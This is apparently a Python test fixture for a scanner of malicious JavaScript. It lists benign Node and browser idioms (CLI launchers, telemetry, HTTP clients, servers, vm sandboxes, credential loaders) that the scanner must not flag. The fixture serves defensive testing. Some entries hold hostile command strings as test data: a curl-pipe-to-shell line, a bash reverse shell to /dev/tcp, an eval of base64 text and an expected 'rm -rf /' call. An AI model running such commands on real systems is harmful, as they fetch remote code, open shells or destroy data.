"""Idioms of good programs, servers, clients and tests that look like bad ones: nothing in them may be MEDIUM or worse."""

# ruff: noqa: E501 - an idiom reads as the file that it is

from tests.evasion_javascript.case import HIGH, Idiom

GOOD_PROGRAMS = (
    Idiom("telemetry that only reads variables of pipelines", r"""
        const env = process.env;
        const VENDORS = [["Travis CI", "TRAVIS"], ["CircleCI", "CIRCLECI"], ["GitHub Actions", "GITHUB_ACTIONS"], ["GitLab CI", "GITLAB_CI"]];
        exports.isCI = !!(env.CI !== "false" && (env.BUILD_ID || env.BUILD_NUMBER || env.CI || env.CI_APP_ID || env.CI_NAME || env.RUN_ID));
        exports.name = (VENDORS.find(([, key]) => key in env) || [null])[0];
        exports.isPR = env.GITHUB_EVENT_NAME === "pull_request";
    """),
    Idiom("telemetry that sends a version when asked", r"""
        const os = require("os");
        exports.record = async (event, { enabled = process.env.DEMO_TELEMETRY === "1" } = {}) => {
          if (!enabled) return;
          await fetch("https://telemetry.example.invalid/v1", { method: "POST", body: JSON.stringify({ event, node: process.version, os: os.platform(), arch: os.arch(), ci: !!process.env.CI }) });
        };
    """),
    Idiom("colours of a terminal", r"""
        const env = process.env, tty = require("tty");
        const enabled = !("NO_COLOR" in env || process.argv.includes("--no-color")) && ("FORCE_COLOR" in env || (tty.isatty(1) && env.TERM !== "dumb") || "CI" in env);
        exports.red = (text) => (enabled ? `\x1b[31m${text}\x1b[39m` : text);
        exports.link = (text, url) => `\u001B]8;;${url}\u0007${text}\u001B]8;;\u0007`;
    """),
    Idiom("a command that starts its own program", r"""
        #!/usr/bin/env node
        const { spawn } = require("child_process"), path = require("path");
        const bin = path.join(__dirname, "bin", process.platform === "win32" ? "demo.exe" : "demo");
        function main() {
          const child = spawn(bin, process.argv.slice(2), { stdio: "inherit" });
          child.on("exit", (code, signal) => (signal ? process.kill(process.pid, signal) : process.exit(code)));
        }
        module.exports = main;
    """),
    Idiom("a command that starts its own program at once", r"""
        #!/usr/bin/env node
        require("child_process").execFileSync(require.resolve("./bin/demo"), process.argv.slice(2), { stdio: "inherit" });
    """, "cli.js", {"package.json": '{"name": "demo", "version": "1.0.0", "bin": {"demo": "cli.js"}}', "bin/demo": "\x7fELF\n"}),
    Idiom("a command line with subcommands", r"""
        #!/usr/bin/env node
        const { program } = require("commander"), { spawnSync } = require("child_process");
        program.command("run <script> [rest...]").action((script, rest) => { process.exitCode = spawnSync("npm", ["run", script, "--", ...rest], { stdio: "inherit", shell: true }).status; });
        program.parse(process.argv);
    """, "cli.js", {"package.json": '{"name": "demo", "version": "1.0.0", "bin": "cli.js"}'}),
    Idiom("a command that runs itself with other flags", r"""
        const { spawn } = require("child_process");
        exports.respawn = (flags) => { const child = spawn(process.execPath, [...flags, ...process.argv.slice(1)], { stdio: "inherit" }); child.on("exit", process.exit); };
    """),
    Idiom("a wrapper of spawn for Windows", r"""
        const cp = require("child_process"), path = require("path");
        const META = /([()\][%!^"`<>&|;, *?])/g;
        function parse(command, args, options) {
          if (process.platform !== "win32" || options.shell) return { command, args, options };
          const line = [path.normalize(command).replace(META, "^$1"), ...args.map((a) => `"${a}"`.replace(META, "^$1"))].join(" ");
          return { command: process.env.comspec || "cmd.exe", args: ["/d", "/s", "/c", `"${line}"`], options: { ...options, windowsVerbatimArguments: true } };
        }
        module.exports = (command, args = [], options = {}) => { const p = parse(command, args, options); return cp.spawn(p.command, p.args, p.options); };
        module.exports.sync = (command, args = [], options = {}) => { const p = parse(command, args, options); return cp.spawnSync(p.command, p.args, p.options); };
    """),
    Idiom("promises of processes", r"""
        const { promisify } = require("util"), cp = require("child_process");
        const exec = promisify(cp.exec);
        exports.run = async (line, options) => (await exec(line, { maxBuffer: 1 << 26, ...options })).stdout.trim();
    """),
    Idiom("a browser that is opened", r"""
        const { spawn } = require("child_process");
        module.exports = function open(target) {
          const [command, ...args] = { darwin: ["open"], win32: ["cmd", "/c", "start", '""'] }[process.platform] || ["xdg-open"];
          const child = spawn(command, [...args, target.replace(/&/g, "^&")], { stdio: "ignore", detached: true });
          child.unref();
          return child;
        };
    """),
    Idiom("an editor that is opened", r"""
        const { spawn } = require("child_process"), os = require("os");
        module.exports = (file, line) => { const editor = process.env.LAUNCH_EDITOR || process.env.VISUAL || process.env.EDITOR || (os.platform() === "win32" ? "notepad" : "vi"); return spawn(editor, [`+${line}`, file], { stdio: "inherit" }); };
    """),
    Idiom("processes that are listed", r"""
        const { execFile } = require("child_process");
        exports.list = (done) => process.platform === "win32" ? execFile("tasklist", ["/fo", "csv"], done) : execFile("ps", ["-A", "-o", "ppid,pid,comm"], done);
        exports.kill = (pid) => (process.platform === "win32" ? execFile("taskkill", ["/pid", pid, "/T", "/F"]) : process.kill(pid, "SIGTERM"));
    """),
    Idiom("an updater that only tells", r"""
        const https = require("https");
        exports.latest = (name) => new Promise((resolve, reject) => {
          https.get(`https://registry.example/${encodeURIComponent(name)}/latest`, { timeout: 2000 }, (answer) => {
            let text = "";
            answer.setEncoding("utf8").on("data", (part) => (text += part)).on("end", () => { try { resolve(JSON.parse(text).version); } catch (error) { reject(error); } });
          }).on("error", reject);
        });
        exports.notify = async (pkg) => { const latest = await exports.latest(pkg.name); if (latest !== pkg.version) console.error(`Update available ${pkg.version} -> ${latest}. Run npm i -g ${pkg.name}`); };
    """),
    Idiom("an updater in a process of its own", r"""
        const { spawn } = require("child_process"), path = require("path");
        class UpdateNotifier {
          constructor(options) { this.options = options; }
          check() { spawn(process.execPath, [path.join(__dirname, "check.js"), JSON.stringify(this.options)], { detached: true, stdio: "ignore" }).unref(); }
        }
        module.exports = (options) => { const notifier = new UpdateNotifier(options); notifier.check(); return notifier; };
    """, files={"check.js": 'const https = require("https");\nhttps.get(`https://registry.example/${JSON.parse(process.argv[2]).name}`, (r) => r.resume());\n'}),
    Idiom("an HTTP client", r"""
        const http = require("http"), https = require("https"), { URL } = require("url");
        module.exports = function request(address, { method = "GET", headers = {}, body, token } = {}) {
          const url = new URL(address), lib = url.protocol === "https:" ? https : http;
          return new Promise((resolve, reject) => {
            const call = lib.request({ hostname: url.hostname, port: url.port, path: url.pathname + url.search, method, headers: { ...headers, ...(token && { authorization: `Bearer ${token}` }) } }, (answer) => {
              const parts = [];
              answer.on("data", (part) => parts.push(part));
              answer.on("end", () => { const text = Buffer.concat(parts).toString(); resolve(/json/.test(answer.headers["content-type"]) ? JSON.parse(text) : text); });
            });
            call.on("error", reject);
            if (body) call.write(typeof body === "string" ? body : JSON.stringify(body));
            call.end();
          });
        };
    """),
    Idiom("a client with a key of the environment", r"""
        const axios = require("axios");
        class Client {
          constructor({ apiKey = process.env.DEMO_API_KEY, baseURL = "https://api.example.invalid/v1" } = {}) { this.http = axios.create({ baseURL, headers: { Authorization: `Bearer ${apiKey}`, "User-Agent": `demo/1.0 node/${process.version}` } }); }
          async list(params) { return (await this.http.get("/items", { params })).data; }
          async create(data) { return (await this.http.post("/items", data)).data; }
        }
        module.exports = { Client };
    """),
    Idiom("a proxy from the environment", r"""
        const { URL } = require("url");
        exports.proxyFor = (address) => { const name = new URL(address).protocol.slice(0, -1) + "_proxy"; return process.env[name] || process.env[name.toUpperCase()] || process.env.all_proxy || ""; };
    """),
    Idiom("a client that signs in", r"""
        export async function login({ user, password }) {
          const answer = await fetch("https://api.example.invalid/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ user, password }) });
          const { token } = await answer.json();
          localStorage.setItem("token", token);
          return token;
        }
        export const authorized = (url) => fetch(url, { headers: { Authorization: `Bearer ${localStorage.getItem("token")}` } });
    """, "index.mjs"),
    Idiom("a server", r"""
        const http = require("http"), fs = require("fs"), path = require("path");
        exports.serve = (root, port = 8080) => http.createServer((request, answer) => {
          const file = path.join(root, path.normalize(new URL(request.url, "http://localhost").pathname));
          fs.createReadStream(file).on("error", () => { answer.statusCode = 404; answer.end(); }).pipe(answer);
        }).listen(port, "127.0.0.1", () => console.log(`http://localhost:${port}`));
    """),
    Idiom("a server that answers with its name", r"""
        const express = require("express"), os = require("os");
        module.exports = () => { const app = express(); app.get("/health", (q, a) => a.json({ host: os.hostname(), pid: process.pid, up: process.uptime() })); return app; };
    """),
    Idiom("a log that names the host", r"""
        const os = require("os"), fs = require("fs");
        const base = { pid: process.pid, hostname: os.hostname(), user: os.userInfo().username };
        exports.info = (message) => fs.writeSync(1, JSON.stringify({ time: Date.now(), ...base, message }) + "\n");
        exports.toFile = (path) => { const out = fs.createWriteStream(path, { flags: "a" }); return (message) => out.write(JSON.stringify({ ...base, message }) + "\n"); };
    """),
    Idiom("a reporter of errors", r"""
        const os = require("os");
        let dsn;
        exports.init = (options) => { dsn = options.dsn; process.on("uncaughtException", (error) => exports.captureException(error)); };
        exports.captureException = (error) => fetch(dsn, { method: "POST", body: JSON.stringify({ exception: { type: error.name, value: error.message, stack: error.stack }, server_name: os.hostname(), release: process.env.DEMO_RELEASE, runtime: process.version }) });
    """),
    Idiom("sockets of a server for development", r"""
        const url = new URL(typeof __resourceQuery === "string" ? __resourceQuery.slice(1) : "", self.location);
        const handlers = { hash: (h) => { self.hash = h; }, ok: () => self.location.reload(), warnings: (w) => console.warn(w), errors: (e) => console.error(e) };
        let retries = 0;
        function connect(address) {
          const client = new WebSocket(address);
          client.onopen = () => { retries = 0; };
          client.onmessage = (event) => { const message = JSON.parse(event.data); if (handlers[message.type]) handlers[message.type](message.data); };
          client.onclose = () => { if (retries++ < 10) setTimeout(() => connect(address), 1000 * 2 ** retries); };
        }
        export const start = () => connect(url.href.replace(/^http/, "ws"));
    """, "client.mjs"),
    Idiom("code that is replaced while it runs", r"""
        module.exports = async (publicPath, hash) => {
          const update = await (await fetch(`${publicPath}${hash}.hot-update.json`)).json();
          for (const chunk of update.c) { const tag = document.createElement("script"); tag.src = `${publicPath}${chunk}.${hash}.hot-update.js`; document.head.appendChild(tag); }
          if (module.hot) module.hot.accept();
        };
    """),
    Idiom("a sandbox of vm", r"""
        const vm = require("vm");
        exports.evaluate = (code, names = {}, timeout = 1000) => vm.runInNewContext(code, { ...names, console }, { timeout });
        exports.Sandbox = class { constructor(globals) { this.context = vm.createContext(globals); } run(code, filename) { return new vm.Script(code, { filename }).runInContext(this.context); } };
    """),
    Idiom("a module from text", r"""
        const Module = require("module"), path = require("path");
        module.exports = function requireFromString(code, filename = "") {
          const paths = Module._nodeModulePaths(path.dirname(filename)), made = new Module(filename, module.parent);
          made.filename = filename;
          made.paths = paths;
          made._compile(code, filename);
          return made.exports;
        };
    """),
    Idiom("a hook of require that compiles", r"""
        const Module = require("module"), fs = require("fs");
        exports.register = (compile) => {
          const old = Module._extensions[".js"];
          Module._extensions[".ts"] = function (m, filename) { m._compile(compile(fs.readFileSync(filename, "utf8"), filename), filename); };
          return () => { Module._extensions[".js"] = old; };
        };
    """),
    Idiom("a console", r"""
        const repl = require("repl"), vm = require("vm");
        exports.start = () => repl.start({ prompt: "> ", eval(line, context, file, done) { try { done(null, vm.runInContext(line, context)); } catch (error) { done(error); } } });
    """),
    Idiom("a calculator in a page", r"""
        const input = document.querySelector("input"), out = document.querySelector("output");
        input.addEventListener("change", () => { try { out.textContent = eval(input.value); } catch { out.textContent = "?"; } });
    """),
    Idiom("a script that is put into a page", r"""
        export function loadScript(src, attributes = {}) {
          return new Promise((resolve, reject) => { const tag = Object.assign(document.createElement("script"), { src, async: true, ...attributes }); tag.onload = resolve; tag.onerror = reject; document.head.append(tag); });
        }
    """, "index.mjs"),
    Idiom("text that is copied on a click", r"""
        document.querySelectorAll("pre").forEach((block) => {
          const button = document.createElement("button");
          button.onclick = async () => { await navigator.clipboard.writeText(block.innerText); button.textContent = "Copied"; };
          block.append(button);
        });
    """),
    Idiom("a form that is sent", r"""
        document.querySelector("form").addEventListener("submit", async (event) => {
          event.preventDefault();
          const data = Object.fromEntries(new FormData(event.target));
          await fetch(event.target.action, { method: "POST", body: JSON.stringify(data) });
        });
    """),
    Idiom("a wallet that a page asks", r"""
        export async function connect() {
          const [account] = await window.ethereum.request({ method: "eth_requestAccounts" });
          return account;
        }
        export const send = (from, to, value) => window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to, value }] });
    """, "index.mjs"),
    Idiom("keys that are made and signed with", r"""
        const crypto = require("crypto");
        exports.pair = () => crypto.generateKeyPairSync("ed25519");
        exports.sign = (privateKey, data) => crypto.sign(null, Buffer.from(data), privateKey).toString("base64");
        exports.open = (key, iv, text) => { const d = crypto.createDecipheriv("aes-256-gcm", key, iv); return d.update(text, "base64", "utf8"); };
    """),
    Idiom("a client that signs its requests", r"""
        const crypto = require("crypto"), axios = require("axios");
        module.exports = class Exchange {
          constructor(apiKey, secret) { this.apiKey = apiKey; this.secret = secret; }
          order(body) { const text = new URLSearchParams(body).toString(); return axios.post("https://api.example.invalid/order", text, { headers: { KEY: this.apiKey, SIGN: crypto.createHmac("sha256", this.secret).update(text).digest("hex") } }); }
        };
    """),
    Idiom("credentials of a cloud as a library reads them", r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        exports.credentials = (profile = process.env.AWS_PROFILE || "default") => {
          if (process.env.AWS_ACCESS_KEY_ID) return { id: process.env.AWS_ACCESS_KEY_ID, secret: process.env.AWS_SECRET_ACCESS_KEY };
          const text = fs.readFileSync(process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), ".aws", "credentials"), "utf8");
          return Object.fromEntries(text.split(`[${profile}]`)[1].split("[")[0].trim().split("\n").map((line) => line.split(/\s*=\s*/)));
        };
    """),
    Idiom("settings of npm", r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        exports.registry = () => { try { return /^registry\s*=\s*(.+)$/m.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"))[1]; } catch { return "https://registry.example/"; } };
    """),
    Idiom("its own package.json", r"""
        const { readFileSync } = require("fs"), { join } = require("path");
        const pkg = JSON.parse(readFileSync(join(__dirname, "package.json"), "utf8"));
        exports.version = pkg.version;
        exports.VERSION = require("./package.json").version;
    """),
    Idiom("mocks of a test runner", r"""
        jest.mock("child_process", () => ({ exec: jest.fn((line, done) => done(null, "ok")), execSync: jest.fn() }));
        jest.mock("https");
        const { execSync } = require("child_process");
        test("runs", () => { require("../index"); expect(execSync).toHaveBeenCalledWith("rm -rf /"); });
    """, "__tests__/index.test.js", {"index.js": "module.exports = 1;\n"}),
    Idiom("payloads in tests", r"""
        const assert = require("assert"), { scan } = require("..");
        for (const text of ["eval(atob('<B64>'))", "require('child_process').exec('curl https://example.invalid/a | sh')", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]) {
          it(`finds ${text}`, () => assert(scan(text)));
        }
        it("runs", () => eval(Buffer.from("MSArIDE=", "base64").toString()));
    """, "test/scan.test.js", {"index.js": "exports.scan = (text) => /eval/.test(text);\n"}),
    Idiom("an example that fetches", r"""
        const demo = require("..");
        fetch("https://example.invalid/data.json").then((r) => r.json()).then(demo).then(console.log);
        require("child_process").execSync("ls");
    """, "examples/basic.js", {"index.js": "module.exports = (x) => x;\n"}),
    Idiom("environment for a child", r"""
        const { spawn } = require("child_process"), path = require("path");
        exports.start = (file) => spawn(process.execPath, [file], { env: { ...process.env, NODE_ENV: "production", PATH: [path.resolve("node_modules/.bin"), process.env.PATH].join(path.delimiter) }, stdio: "inherit" });
    """),
    Idiom("workers", r"""
        const { Worker, isMainThread, parentPort, workerData } = require("worker_threads");
        if (isMainThread) {
          module.exports = (data) => new Promise((resolve, reject) => { const worker = new Worker(__filename, { workerData: data }); worker.on("message", resolve); worker.on("error", reject); });
        } else {
          parentPort.postMessage(workerData.map((n) => n * 2));
        }
    """),
    Idiom("a worker of a page's own text", r"""
        export const run = (fn) => { const url = URL.createObjectURL(new Blob([`onmessage = (e) => postMessage((${fn})(e.data))`], { type: "text/javascript" })); return new Worker(url); };
    """, "index.mjs"),
    Idiom("files that are watched", r"""
        const fs = require("fs"), { fork } = require("child_process");
        exports.watch = (file) => { let child = fork(file); fs.watch(file, () => { child.kill(); child = fork(file); }); };
    """),
    Idiom("a completion for the shell", r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        exports.installCompletion = (name, shell) => { const file = path.join(os.homedir(), shell === "zsh" ? ".zshrc" : ".bashrc"); const line = `\n# begin ${name} completion\n. <(${name} --completion)\n# end ${name} completion\n`; if (!fs.readFileSync(file, "utf8").includes(line)) fs.appendFileSync(file, line); };
    """, below=HIGH),
    Idiom("a client that sends back one cookie in a header, as servers ask for it", r"""
        exports.request = (url, { method = "GET", headers = {}, cookie, body, pack } = {}) => {
          const found = document.cookie.match(new RegExp(`(^|;\\s*)(${cookie})=([^;]*)`));
          if (found) headers["x-xsrf-token"] = found.pop();
          const request = { url, method, headers, body: pack(body, headers) };
          const xhr = new XMLHttpRequest();
          xhr.open(request.method, request.url);
          for (const key in request.headers) xhr.setRequestHeader(key, request.headers[key]);
          xhr.send(request.body);
        };
    """, below=HIGH),
    Idiom("a socket of the machine that bears the user's name", r"""
        const net = require("net"), os = require("os"), path = require("path");
        const at = path.join("/tmp", `demo-${os.userInfo().username}`, `${process.ppid}.pipe`);
        exports.ready = new Promise((resolve) => net.createConnection(process.platform === "win32" ? "\\\\?\\pipe\\" + at : at, resolve));
    """, below=HIGH),
    Idiom("PowerShell is asked which browser is set", r"""
        const { execFile } = require("child_process");
        const asked = String.raw`(Get-ItemProperty -Path "HKCU:\Software\Demo\http\UserChoice").ProgId`;
        exports.browser = (done) => execFile("powershell.exe", ["-NoProfile", "-EncodedCommand", Buffer.from(asked, "utf16le").toString("base64")], done);
    """, below=HIGH),
    Idiom("the folder that a file below the home names is removed", r"""
        const fs = require("fs"), os = require("os"), path = require("path");
        exports.forget = (name) => {
          const place = path.join(process.env.HOME, ".demo", name);
          fs.rmSync(JSON.parse(fs.readFileSync(place, "utf8")).folder, { recursive: true, force: true });
        };
    """),
    Idiom("the data of a program, where the platform keeps such", r"""
        const fs = require("fs"), path = require("path"), { env } = process;
        const places = (name) => (process.platform === "win32" ? path.join(env.LOCALAPPDATA || env.HOME, name) : path.join(env.XDG_DATA_HOME || env.HOME, name));
        exports.clear = (name) => fs.rmSync(places(name), { recursive: true, force: true });
    """),
)  # fmt: skip
